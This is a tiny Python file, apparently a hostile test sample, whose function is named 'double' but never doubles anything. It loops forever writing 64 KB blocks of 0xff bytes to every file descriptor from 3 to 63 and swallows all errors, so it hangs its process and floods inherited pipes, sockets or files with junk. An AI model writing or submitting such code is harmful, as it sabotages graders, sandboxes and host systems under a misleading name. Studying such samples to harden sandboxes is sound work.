"""Writes into the pipe without end."""

import os


def double(x):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"\xff" * 65536)
            except OSError:
                pass
